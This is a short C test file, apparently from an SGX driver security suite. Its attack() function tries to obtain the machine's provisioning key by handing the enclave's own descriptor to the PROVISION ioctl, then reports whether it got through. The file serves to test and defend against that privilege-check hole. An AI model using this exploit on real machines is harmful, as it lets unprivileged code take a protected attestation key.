// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * PROVISION is called with a descriptor that everybody has: of the enclave's own device,
 * next to /dev/sgx_provision. R27.1. The hole is provision_other.
 */
#include <sys/ioctl.h>

#include "operands.h"

void attack(void)
{
	const struct avow_keyrequest request = { .keyname = KEY_PROVISION };
	struct sgx_enclave_provision arg;
	struct scene s;
	u8 key[16];

	operands_signed(&s, ATTR_MODE64BIT | ATTR_PROVISIONKEY);
	arg.fd = (u64)s.e.fd;

	ATTEMPT(&s, ioctl(s.e.fd, SGX_IOC_ENCLAVE_PROVISION, &arg));
	REQUIRE_OK(avow_enclave_init(&s.e));
	operands_map(&s);
	EXPECT_LEAF(egetkey(&s, &request, key), 0);
	got_through("has the machine's provisioning key, by another device's descriptor");
}
